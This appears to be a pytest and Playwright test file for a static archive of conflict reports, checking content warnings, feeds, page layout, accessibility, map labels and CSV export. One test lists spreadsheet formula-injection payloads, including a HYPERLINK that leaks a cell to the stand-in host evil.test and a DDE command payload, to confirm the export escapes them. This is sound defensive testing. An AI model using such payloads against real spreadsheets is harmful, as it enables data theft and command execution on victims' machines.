        context = browser.new_context()
        tab = context.new_page()
        errors = collect_errors(tab)
        tab.goto(f"{root}{folder}search.html?q=bodies")
        tab.wait_for_function(done, timeout=15000)
        assert tab.locator(".search__title").all_inner_texts() == ["Report x2"], folder
        excerpt = tab.locator(".search__excerpt")
        assert excerpt.inner_text() == wording, folder
        assert excerpt.locator("mark").all_inner_texts() == ["bodies"]  # the warning's words
        assert excerpt.get_attribute("lang") is None  # the page's words, in its language
        assert tab.locator(".search__title").get_attribute("lang") == "en"
        tab.goto(f"{root}{folder}search.html?q={HIDDEN}")
        tab.wait_for_function(done, timeout=15000)
        assert tab.locator(".search__result").count() == 0
        context.close()
        assert errors == [], folder


def test_a_warning_that_ends_its_sentence_gets_no_second_full_stop(browser, tmp_path):
    content = fixture_content("explore", tmp_path)
    x2 = content / "articles" / "x2.md"
    x2.write_text(x2.read_text().replace(WARNING, WARNING + "."), encoding="utf-8")
    site = build(content, tmp_path / "output")
    tab = browser.new_page()
    errors = collect_errors(tab)
    tab.goto((site / "search.html").as_uri() + "?q=bodies")
    tab.wait_for_function(
        "['done', 'failed'].includes(document.querySelector('[data-search]').dataset.state)"
    )
    assert tab.locator(".search__excerpt").inner_text() == WARNED_RESULT[""]
    tab.close()
    assert errors == []


def test_feeds_carry_the_warning_instead_of_the_text(tmp_path):
    site = build(
        fixture_content("explore", tmp_path),
        tmp_path / "output",
        SITEURL="https://archive.test",
        FEED_DOMAIN="https://archive.test",
        FEEDS={
            "all": "feeds/all.atom.xml",
            "collection": "feeds/{slug}.atom.xml",
            "actor": "feeds/actors/{slug}.atom.xml",
            "location": "",
        },
    )
    feeds = [
        f"{folder}feeds/{name}.atom.xml"
        for folder in ("", "es/", "fr/")
        for name in ("all", "test", "actors/islamic-state")
    ]
    for name in feeds:
        text = (site / name).read_text(encoding="utf-8")
        assert HIDDEN not in text, name
        feed = ElementTree.parse(site / name).getroot()
        entry = next(
            e for e in feed.findall(f"{ATOM}entry") if e.find(f"{ATOM}title").text == "Report x2"
        )
        assert entry.find(f"{ATOM}content") is None
        assert WARNING in entry.find(f"{ATOM}summary").text
        x1 = next(
            e for e in feed.findall(f"{ATOM}entry") if e.find(f"{ATOM}title").text == "Report x1"
        )
        assert "Text of report x1." in x1.find(f"{ATOM}content").text


def test_the_warned_text_opens_only_when_asked_even_without_javascript(browser, explore_site):
    for scripts in (True, False):
        context = browser.new_context(java_script_enabled=scripts)
        tab = context.new_page()
        errors = collect_errors(tab)
        tab.goto((explore_site / X2).as_uri())
        body = tab.locator(".document__body")
        assert tab.locator(".content-warning__note").is_visible()
        assert not body.is_visible()
        assert not tab.get_by_text(HIDDEN, exact=False).is_visible()
        tab.get_by_text("Show the document").click()
        assert body.is_visible() and tab.get_by_text(HIDDEN, exact=False).is_visible()
        if scripts:
            tab.screenshot(path="/tmp/explore-content-warning-open.png", full_page=True)
        assert errors == []
        context.close()


# --- 8. The document page: side column, copy buttons; screenshots and axe ----------------------


def test_the_side_column_sits_beside_the_text_on_wide_screens_only(browser, shipped_site):
    for width, beside in ((1400, True), (700, False)):
        tab = browser.new_page(viewport={"width": width, "height": 900})
        errors = collect_errors(tab)
        tab.goto((shipped_site / SEED_ARTICLE).as_uri())
        body = tab.locator(".document__body").bounding_box()
        aside = tab.locator(".document__aside").bounding_box()
        if beside:
            assert aside["x"] >= body["x"] + body["width"] and aside["y"] < body["y"] + 200
            assert body["width"] >= 560  # a readable measure stays for the text
        else:
            assert aside["y"] >= body["y"] + body["height"]
        tab.screenshot(path=f"/tmp/explore-document-{width}.png", full_page=False)
        assert errors == []
        tab.close()


def test_each_citation_has_a_copy_button_that_copies_it(browser, shipped_site, serve):
    site = serve(shipped_site)
    context = browser.new_context()
    context.grant_permissions(["clipboard-read", "clipboard-write"], origin=site.rstrip("/"))
    tab = context.new_page()
    errors = collect_errors(tab)
    tab.goto(site + SEED_ARTICLE)
    buttons = tab.locator(".cite__copy button")
    assert buttons.count() == 3  # Chicago, APA, BibTeX
    assert tab.locator(".cite__copy button[aria-label='Copy Chicago']").count() == 1
    tab.locator(".cite__copy button[aria-label='Copy Chicago']").click()
    tab.wait_for_selector(".cite__copy [role=status]:has-text('Copied')")
    chicago = tab.locator(".cite p.citation").first.inner_text().strip()
    assert tab.evaluate("navigator.clipboard.readText()") == chicago
    assert chicago.startswith("Itar Tass.")
    assert errors == []
    context.close()
    without = browser.new_context(java_script_enabled=False)
    page = without.new_page()
    page.goto((shipped_site / SEED_ARTICLE).as_uri())
    assert page.locator(".cite__copy").count() == 0  # only in the <template>: nothing to press
    assert page.locator(".cite p.citation").first.is_visible()
    without.close()


AXE_PAGES = {
    "document": SEED_ARTICLE,
    "actor": "actors/islamic-state.html",
    "location": "locations/syria.html",
    "locations": "locations/index.html",
    "archive": "archive/index.html",
    "collection": "collections/syria-war.html",
}


@pytest.mark.parametrize("name", list(AXE_PAGES))
def test_pages_with_timelines_maps_and_related_documents_pass_axe(browser, shipped_site, name):
    from axe_playwright_python.sync_playwright import Axe
    from conftest import WCAG_TAGS

    tab = browser.new_page(viewport={"width": 1280, "height": 900})
    errors = collect_errors(tab)
    tab.goto((shipped_site / AXE_PAGES[name]).as_uri())
    tab.screenshot(path=f"/tmp/explore-{name}.png", full_page=True)
    assert errors == []  # before axe, whose own requests from disk are refused
    results = Axe().run(tab, options={"runOnly": {"type": "tag", "values": WCAG_TAGS}})
    tab.close()
    assert results.violations_count == 0, results.generate_report()


def test_every_link_of_the_shipped_site_resolves_from_disk(shipped_site):
    assert broken_links(shipped_site) == []


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.test/?leak="&A1,"x")',
        "+cmd|' /C calc'!A0",
        "@SUM(1)",
        "-2+3",
        "\tx",
    ],
)
def test_no_csv_cell_is_a_formula_a_spreadsheet_would_run(value):
    """Case D1: a publisher, place or title written as a formula stays text in the CSV."""
    from plugins.open_data.plugin import DOCUMENT_FIELDS, documents_csv

    row = {column.name: value for column in DOCUMENT_FIELDS}
    row[DOCUMENT_FIELDS[-1].name] = [value, "Plain"]
    [_, read] = list(csv.reader(documents_csv([row]).splitlines()))
    assert read[:-1] == ["'" + value] * (len(DOCUMENT_FIELDS) - 1)
    assert read[-1].startswith("'" + value)


def test_a_feed_keeps_every_character_of_a_title(tmp_path):
    """The archive's titles are text ("Attack on <Unit 5>"): the feed says them whole (Pelican's
    writer read them as HTML and stripped what looked like a tag)."""
    content = fixture_content("minimal", tmp_path)
    [source] = sorted((content / "articles").rglob("first-report.md"))
    title = 'Attack on <Unit 5> & "the base" at A<B'
    text = source.read_text(encoding="utf-8").replace("title: First report", f"title: '{title}'")
    source.write_text(text, encoding="utf-8")
    site = build(
        content,
        tmp_path / "output",
        SITEURL="https://archive.example.net",
        FEED_DOMAIN="https://archive.example.net",
        FEEDS={"all": "feeds/all.atom.xml"},
        SITENAME="Archive <R&D>",
    )
    feed = ElementTree.parse(site / "feeds" / "all.atom.xml").getroot()
    assert feed.find(f"{ATOM}title").text == "Archive <R&D>"
    titles = [entry.find(f"{ATOM}title").text for entry in feed.findall(f"{ATOM}entry")]
    assert title in titles


@settings(max_examples=examples(100), deadline=None)
@given(
    st.lists(
        st.tuples(
            st.text(alphabet="AĀaémW- ’", min_size=1, max_size=20),
            st.floats(0, 360),
            st.floats(0, 300),
            st.floats(13, 20),
        ),
        max_size=30,
    )
)
def test_map_labels_stay_in_the_frame_clear_of_every_point_and_each_other(points):
    """Whatever the points, a placed name's box is inside the frame and meets no point's
    mark and no other name (the browser test measures that the boxes hold the text)."""
    from plugins.maps.labels import mark, place_labels

    labels = place_labels(tuple(points), 360, 300)
    boxes = [label.box for label in labels if label]
    marks = [mark(x, y, radius) for _, x, y, radius in points]
    for number, box in enumerate(boxes):
        assert box.within(360, 300)
        assert not any(box.overlaps(other) for other in marks)
        assert not any(box.overlaps(other) for other in boxes[number + 1 :])
    place_labels.cache_clear()
    assert place_labels(tuple(points), 360, 300) == labels  # the same input, the same page


def test_a_place_map_frames_its_country_and_keeps_its_points_off_the_edges():
    """Syria's towns cluster in the west and the north was cut off: the frame now holds the
    country's outline from the base map, and every point a whole point's reach inside."""
    from plugins.maps.drawing import frame_of
    from plugins.maps.plugin import country_bounds, country_rings, settings_of

    options = settings_of({})
    towns = [(33.51, 36.29), (34.73, 36.71), (33.3, 36.1)]  # Damascus, Homs, near Damascus
    west, south, east, north = country_bounds("Syria")
    assert frame_of(towns, options).north < north  # the towns alone: the north cut off
    frame = frame_of(towns, options, (west, south, east, north), pad=22)
    assert frame.west < west and east < frame.east and frame.south < south and north < frame.north
    for latitude, longitude in towns:
        x, y = frame.project(longitude, latitude)
        assert 22 <= x <= frame.width - 22 and 22 <= y <= frame.height - 22
    assert options["min_height"] <= frame.height <= options["max_height"]
    assert country_rings("Atlantis") == [] and country_bounds("Atlantis") is None
    # A place filed under Syria but placed in Brazil: its map frames its neighbours alone.
    from plugins.maps.plugin import PlaceMap

    brazil = SimpleNamespace(term=SimpleNamespace(coordinates=(-15.8, -47.9)), articles=["d"])
    far = PlaceMap([brazil], options, region=(west, south, east, north)).frame
    assert far.east < 0 and far.east - far.west < 30
